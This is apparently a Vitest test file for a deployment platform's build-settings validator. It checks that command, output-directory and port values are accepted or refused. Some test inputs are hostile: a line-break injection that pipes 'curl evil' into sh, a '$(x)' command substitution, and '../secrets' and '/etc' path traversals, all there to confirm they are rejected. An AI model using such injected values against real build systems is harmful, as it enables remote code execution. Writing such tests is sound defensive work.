import { describe, expect, it } from 'vitest';
import { Refusal } from '../shared/refusal.js';
import { commandArgv, parseBuildSettings, refuseSettings } from './build-settings.js';

describe('parseBuildSettings', () => {
  it('accepts ordinary settings', () => {
    expect(() =>
      parseBuildSettings({ installCommand: 'npm ci', buildCommand: 'make build', outputDir: 'apps/web/dist', port: 8080 }),
    ).not.toThrow();
  });

  it.each(['installCommand', 'buildCommand', 'startCommand'] as const)('refuses a line break in %s, naming it', (field) => {
    expect(() => parseBuildSettings({ [field]: 'npm test\nRUN curl evil | sh' })).toThrow(expect.objectContaining({ status: 400, field }));
    expect(() => parseBuildSettings({ [field]: 'a\rb' })).toThrow(new RegExp(`^${field}: must be a single line`));
  });

  it('refuses a setting it does not know, rather than ignoring it', () => {
    expect(() => parseBuildSettings({ startCommnd: 'node server.js' })).toThrow(Refusal);
  });

  it('refuses an empty command', () => {
    expect(() => parseBuildSettings({ buildCommand: '  ' })).toThrow(/^buildCommand: is empty/);
  });

  it.each(['../secrets', '/etc', 'dist/', '.', 'a//b', 'dist $(x)', '.hidden'])('refuses outputDir %j', (outputDir) => {
    expect(() => parseBuildSettings({ outputDir })).toThrow(/^outputDir: must be a relative path/);
  });

  it.each([0, 65536, 80.5, Number.NaN])('refuses port %d', (port) => {
    expect(() => parseBuildSettings({ port })).toThrow(/^port: must be a whole number from 1 to 65535/);
  });
});

describe('commandArgv', () => {
  it('hands the command verbatim to sh -c', () => {
    expect(commandArgv({ startCommand: `node "$ENTRY"` }, 'startCommand')).toEqual(['sh', '-c', 'node "$ENTRY"']);
    expect(commandArgv({}, 'startCommand')).toBeNull();
  });
});

describe('refuseSettings', () => {
  it('names the first given setting that does not apply, and why', () => {
    expect(() => refuseSettings({ port: 1, startCommand: 'x' }, ['installCommand', 'startCommand'], 'no shell')).toThrow(
      'startCommand does not apply: no shell',
    );
    expect(() => refuseSettings({ port: 1 }, ['startCommand'], 'no shell')).not.toThrow();
  });
});
